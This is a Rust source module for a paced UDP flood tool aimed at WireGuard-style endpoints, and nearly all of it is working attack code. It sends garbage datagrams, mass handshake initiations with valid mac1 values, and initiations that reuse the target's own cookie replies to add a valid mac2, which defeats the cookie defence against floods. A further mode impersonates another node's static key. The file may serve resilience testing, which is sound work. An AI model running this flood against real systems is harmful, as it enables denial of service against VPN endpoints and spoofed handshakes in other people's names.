//! The flood itself: a paced send loop over a connected UDP socket, in `sendmmsg` batches.
//!
//! - Everything expensive is precomputed: a pool of initiations (their DH work) or of garbage
//!   datagrams; a send varies only the sender index and the macs, or a receiver index.
//! - Cookie replies are read between batches; with mac2 on, the newest cookie goes on every
//!   initiation after it.

use super::noise::{self, Initiator, Responder, COOKIE_REPLY_LEN, INIT_LEN, MSG_COOKIE_REPLY};
use boringtun::x25519::PublicKey;
use rand_core::{OsRng, RngCore};
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::os::fd::AsRawFd;
use std::str::FromStr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// Datagrams per `sendmmsg`.
const BATCH: usize = 64;
/// Precomputed initiations (distinct ephemeral keys).
const INIT_POOL: usize = 64;
/// Precomputed garbage datagrams.
const GARBAGE_POOL: usize = 1024;
/// The mac1 of the last this many initiations, by sender index, to open cookie replies with.
const MAC1_SLOTS: usize = 1 << 16;

/// What to send.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Random datagrams, handshake types of the wrong length, data messages to random indexes.
    Garbage,
    /// Initiations with a valid mac1 from random static keys of the attacker's own.
    InitMac1,
    /// The same, with a valid mac2 from the cookies the target sends back.
    InitMac2,
    /// Initiations claiming another node's static key, with a junk timestamp.
    Impersonate,
}

impl Kind {
    pub const ALL: [Kind; 4] = [
        Kind::Garbage,
        Kind::InitMac1,
        Kind::InitMac2,
        Kind::Impersonate,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Kind::Garbage => "garbage",
            Kind::InitMac1 => "init-mac1",
            Kind::InitMac2 => "init-mac2",
            Kind::Impersonate => "impersonate",
        }
    }
}

impl FromStr for Kind {
    type Err = String;

    fn from_str(s: &str) -> Result<Kind, String> {
        Kind::ALL
            .into_iter()
            .find(|k| k.as_str() == s)
            .ok_or_else(|| {
                let names: Vec<_> = Kind::ALL.iter().map(|k| k.as_str()).collect();
                format!("unknown kind `{s}` (one of {})", names.join(", "))
            })
    }
}

/// One flood.
#[derive(Debug, Clone)]
pub struct FloodConfig {
    pub target: SocketAddr,
    pub bind: Option<SocketAddr>,
    /// The target's public key (mac1, cookies).
    pub responder: [u8; 32],
    pub kind: Kind,
    /// Datagrams per second; 0 = as fast as the socket takes them.
    pub rate: u64,
    pub duration: Duration,
    /// The key an `impersonate` flood claims.
    pub claim: Option<[u8; 32]>,
    /// Put a valid mac2 on initiations once a cookie arrived (always on for `init-mac2`).
    pub mac2: bool,
}

/// What a flood did.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Summary {
    pub kind: String,
    pub target: String,
    pub rate: u64,
    /// How long it sent (the wait for late replies after is not counted).
    pub secs: f64,
    /// Datagrams the socket took.
    pub sent: u64,
    /// `sent` by what was sent: `initiation`, or `random`, `short_handshake`, `data`.
    pub sent_by_kind: BTreeMap<String, u64>,
    /// Datagrams a send refused (ECONNREFUSED from an ICMP error, ENOBUFS, ...).
    pub send_errors: u64,
    /// Initiations sent with a mac2 from a cookie.
    pub mac2_sent: u64,
    /// Cookie replies received.
    pub cookie_replies: u64,
    /// Cookie replies that decrypted with the mac1 of the initiation they answer.
    pub cookies_decrypted: u64,
    /// Cookie replies that did not (unknown sender index, or a bad tag).
    pub cookies_bad: u64,
    /// Distinct cookies put on initiations (the responder rotates them every two minutes).
    pub cookies_used: u64,
    /// Other datagrams received (handshake responses, ...).
    pub other_received: u64,
    /// `sent` / `secs`.
    pub achieved_rate: f64,
}

impl Summary {
    pub fn to_json(&self) -> Value {
        json!({
            "kind": self.kind,
            "target": self.target,
            "rate": self.rate,
            "secs": self.secs,
            "sent": self.sent,
            "sent_by_kind": self.sent_by_kind,
            "send_errors": self.send_errors,
            "mac2_sent": self.mac2_sent,
            "cookie_replies": self.cookie_replies,
            "cookies_decrypted": self.cookies_decrypted,
            "cookies_bad": self.cookies_bad,
            "cookies_used": self.cookies_used,
            "other_received": self.other_received,
            "achieved_rate": self.achieved_rate,
        })
    }

    /// Reads back [`Summary::to_json`]; `None` if a field is missing.
    pub fn from_json(v: &Value) -> Option<Summary> {
        let u = |k: &str| v.get(k)?.as_u64();
        let by_kind = v
            .get("sent_by_kind")?
            .as_object()?
            .iter()
            .map(|(k, n)| Some((k.clone(), n.as_u64()?)))
            .collect::<Option<BTreeMap<_, _>>>()?;
        Some(Summary {
            kind: v.get("kind")?.as_str()?.to_string(),
            target: v.get("target")?.as_str()?.to_string(),
            rate: u("rate")?,
            secs: v.get("secs")?.as_f64()?,
            sent: u("sent")?,
            sent_by_kind: by_kind,
            send_errors: u("send_errors")?,
            mac2_sent: u("mac2_sent")?,
            cookie_replies: u("cookie_replies")?,
            cookies_decrypted: u("cookies_decrypted")?,
            cookies_bad: u("cookies_bad")?,
            cookies_used: u("cookies_used")?,
            other_received: u("other_received")?,
            achieved_rate: v.get("achieved_rate")?.as_f64()?,
        })
    }
}

/// A cheap PRNG for per-datagram variation (xorshift64*); the keys come from the OS.
struct Rng(u64);

impl Rng {
    fn new() -> Rng {
        Rng(OsRng.next_u64() | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            let v = self.next().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }
}

/// Labels of `Summary::sent_by_kind`, indexes into the per-label counts.
const LABELS: [&str; 4] = ["initiation", "random", "short_handshake", "data"];
const INITIATION: usize = 0;
const RANDOM: usize = 1;
const SHORT_HANDSHAKE: usize = 2;
const DATA: usize = 3;

/// The garbage pool: `(label, datagram)`.
fn garbage_pool(rng: &mut Rng) -> Vec<(usize, Vec<u8>)> {
    // Wrong lengths for types 1, 2, 3 (valid: 148, 92, 64), and data lengths from the shortest
    // (an empty keepalive is 32) to a full MTU.
    const DATA_LENS: [usize; 8] = [16, 32, 33, 48, 148, 576, 1280, 1452];
    const VALID: [usize; 3] = [148, 92, 64];
    (0..GARBAGE_POOL)
        .map(|i| match i % 3 {
            0 => {
                let mut d = vec![0u8; 1 + rng.below(1500) as usize];
                rng.fill(&mut d);
                (RANDOM, d)
            }
            1 => {
                let t = 1 + rng.below(3) as usize;
                let mut len = 1 + rng.below(300) as usize;
                if len == VALID[t - 1] {
                    len += 1;
                }
                let mut d = vec![0u8; len];
                rng.fill(&mut d);
                d[..len.min(4)].copy_from_slice(&[t as u8, 0, 0, 0][..len.min(4)]);
                (SHORT_HANDSHAKE, d)
            }
            _ => {
                let mut d = vec![0u8; DATA_LENS[rng.below(DATA_LENS.len() as u64) as usize]];
                rng.fill(&mut d);
                d[..4].copy_from_slice(&[noise::MSG_DATA, 0, 0, 0]);
                (DATA, d)
            }
        })
        .collect()
}

/// What one send's datagrams are made from.
enum Source {
    Garbage {
        pool: Vec<(usize, Vec<u8>)>,
        next: usize,
    },
    Initiations {
        pool: Vec<[u8; INIT_LEN]>,
        next: usize,
        sender: u32,
        mac2: bool,
        cookie: Option<[u8; 16]>,
        /// `(sender index, mac1)` of recent initiations, at `sender % MAC1_SLOTS`.
        mac1s: Vec<(u32, [u8; 16])>,
    },
}

impl Source {
    fn new(cfg: &FloodConfig, responder: &Responder, rng: &mut Rng) -> Source {
        let mut initiations = |initiator: &dyn Fn() -> Initiator, mac2: bool| Source::Initiations {
            pool: (0..INIT_POOL)
                .map(|_| noise::initiation(responder, &initiator()))
                .collect(),
            next: 0,
            sender: rng.next() as u32,
            mac2,
            cookie: None,
            mac1s: vec![(0, [0u8; 16]); MAC1_SLOTS],
        };
        match cfg.kind {
            Kind::Garbage => Source::Garbage {
                pool: garbage_pool(rng),
                next: 0,
            },
            Kind::InitMac1 => initiations(&Initiator::random, cfg.mac2),
            Kind::InitMac2 => initiations(&Initiator::random, true),
            Kind::Impersonate => {
                let claim = cfg.claim.unwrap_or_default();
                initiations(&|| Initiator::Claimed(PublicKey::from(claim)), cfg.mac2)
            }
        }
    }

    /// Writes the next datagram into `buf`; returns its length, label and whether it has mac2.
    fn fill(
        &mut self,
        buf: &mut [u8],
        responder: &Responder,
        rng: &mut Rng,
    ) -> (usize, usize, bool) {
        match self {
            Source::Garbage { pool, next } => {
                let (label, d) = &pool[*next];
                *next = (*next + 1) % pool.len();
                buf[..d.len()].copy_from_slice(d);
                if *label == DATA {
                    buf[4..8].copy_from_slice(&(rng.next() as u32).to_le_bytes());
                }
                (d.len(), *label, false)
            }
            Source::Initiations {
                pool,
                next,
                sender,
                cookie,
                mac1s,
                ..
            } => {
                let mut msg = pool[*next];
                *next = (*next + 1) % pool.len();
                *sender = sender.wrapping_add(1);
                let mac1 = noise::set_macs(&mut msg, *sender, responder, cookie.as_ref());
                mac1s[*sender as usize % MAC1_SLOTS] = (*sender, mac1);
                buf[..INIT_LEN].copy_from_slice(&msg);
                (INIT_LEN, INITIATION, cookie.is_some())
            }
        }
    }

    /// Takes in a cookie reply; counts it in `s`.
    fn cookie_reply(&mut self, reply: &[u8], responder: &Responder, s: &mut Summary) {
        s.cookie_replies += 1;
        let Source::Initiations {
            mac2,
            cookie,
            mac1s,
            ..
        } = self
        else {
            s.cookies_bad += 1;
            return;
        };
        let index = u32::from_le_bytes([reply[4], reply[5], reply[6], reply[7]]);
        let (sent_index, mac1) = mac1s[index as usize % MAC1_SLOTS];
        let opened = match sent_index == index {
            true => responder.open_cookie(reply, &mac1).ok(),
            false => None,
        };
        let Some(new) = opened else {
            s.cookies_bad += 1;
            return;
        };
        s.cookies_decrypted += 1;
        if *mac2 && cookie.as_ref() != Some(&new) {
            *cookie = Some(new);
            s.cookies_used += 1;
        }
    }
}

/// Runs a flood until `cfg.duration` passes or `stop` is set.
pub fn run(cfg: &FloodConfig, stop: &AtomicBool) -> io::Result<Summary> {
    let responder = Responder::new(cfg.responder);
    let mut rng = Rng::new();
    let mut source = Source::new(cfg, &responder, &mut rng);
    let bind = cfg.bind.unwrap_or(match cfg.target {
        SocketAddr::V4(_) => SocketAddr::from(([0, 0, 0, 0], 0)),
        SocketAddr::V6(_) => SocketAddr::from(([0u16; 8], 0)),
    });
    let socket = UdpSocket::bind(bind)?;
    socket.connect(cfg.target)?;
    let fd = socket.as_raw_fd();

    let mut s = Summary {
        kind: cfg.kind.as_str().to_string(),
        target: cfg.target.to_string(),
        rate: cfg.rate,
        ..Summary::default()
    };
    let mut by_label = [0u64; LABELS.len()];
    let mut bufs = vec![[0u8; 1500]; BATCH];
    let mut lens = [0usize; BATCH];
    let mut labels = [0usize; BATCH];
    let mut with_mac2 = [false; BATCH];
    let mut rx = [0u8; 2048];
    let mut attempted = 0u64;
    let start = Instant::now();
    loop {
        let elapsed = start.elapsed();
        if elapsed >= cfg.duration || stop.load(Ordering::Relaxed) {
            break;
        }
        receive(fd, &mut rx, &mut source, &responder, &mut s);
        let n = match cfg.rate {
            0 => BATCH,
            rate => {
                let due = (elapsed.as_secs_f64() * rate as f64) as u64;
                let n = due.saturating_sub(attempted).min(BATCH as u64) as usize;
                if n == 0 {
                    let next = Duration::from_secs_f64((attempted + 1) as f64 / rate as f64);
                    let wait = next.saturating_sub(elapsed).min(Duration::from_millis(1));
                    std::thread::sleep(wait);
                    continue;
                }
                n
            }
        };
        for i in 0..n {
            (lens[i], labels[i], with_mac2[i]) = source.fill(&mut bufs[i], &responder, &mut rng);
        }
        attempted += n as u64;
        let sent = send_batch(fd, &mut bufs[..n], &lens[..n]);
        s.send_errors += (n - sent) as u64;
        for i in 0..sent {
            by_label[labels[i]] += 1;
            s.mac2_sent += u64::from(with_mac2[i]);
        }
        s.sent += sent as u64;
    }
    s.secs = start.elapsed().as_secs_f64();
    s.achieved_rate = s.sent as f64 / s.secs.max(1e-9);
    // Replies still in flight to the last batch.
    let drain = Instant::now();
    while drain.elapsed() < Duration::from_millis(100) {
        if !receive(fd, &mut rx, &mut source, &responder, &mut s) {
            std::thread::sleep(Duration::from_millis(5));
        }
    }
    s.sent_by_kind = LABELS
        .iter()
        .zip(by_label)
        .filter(|(_, n)| *n > 0)
        .map(|(l, n)| (l.to_string(), n))
        .collect();
    Ok(s)
}

/// Reads what the target sent back, without blocking; true if anything came.
fn receive(
    fd: i32,
    rx: &mut [u8],
    source: &mut Source,
    responder: &Responder,
    s: &mut Summary,
) -> bool {
    let mut any = false;
    for _ in 0..BATCH {
        // SAFETY: `rx` is a valid writable buffer of `rx.len()` bytes for the whole call.
        let n = unsafe { libc::recv(fd, rx.as_mut_ptr().cast(), rx.len(), libc::MSG_DONTWAIT) };
        // Nothing more now (EAGAIN), or an ICMP error reported on the connected socket.
        let Ok(n) = usize::try_from(n) else {
            break;
        };
        any = true;
        let d = &rx[..n];
        if n == COOKIE_REPLY_LEN && d[0] == MSG_COOKIE_REPLY {
            source.cookie_reply(d, responder, s);
        } else {
            s.other_received += 1;
        }
    }
    any
}

/// Sends `bufs[i][..lens[i]]` with `sendmmsg`; returns how many datagrams the socket took.
fn send_batch(fd: i32, bufs: &mut [[u8; 1500]], lens: &[usize]) -> usize {
    let mut iovs: Vec<libc::iovec> = bufs
        .iter_mut()
        .zip(lens)
        .map(|(b, &len)| libc::iovec {
            iov_base: b.as_mut_ptr().cast(),
            iov_len: len,
        })
        .collect();
    let mut msgs: Vec<libc::mmsghdr> = iovs
        .iter_mut()
        .map(|iov| {
            // SAFETY: mmsghdr is plain data; all-zero is a valid empty header.
            let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
            m.msg_hdr.msg_iov = iov;
            m.msg_hdr.msg_iovlen = 1;
            m
        })
        .collect();
    let (mut done, mut refused) = (0, 0);
    while done < msgs.len() {
        let rest = &mut msgs[done..];
        // SAFETY: every header points at one iovec into `bufs`, all alive for the call; the
        // socket is connected, so no address is needed.
        let n = unsafe { libc::sendmmsg(fd, rest.as_mut_ptr(), rest.len() as u32, 0) };
        match usize::try_from(n) {
            Ok(n) if n > 0 => done += n,
            // The first datagram was refused (a pending ICMP error, ENOBUFS): skip it.
            _ => {
                done += 1;
                refused += 1;
            }
        }
    }
    done - refused
}
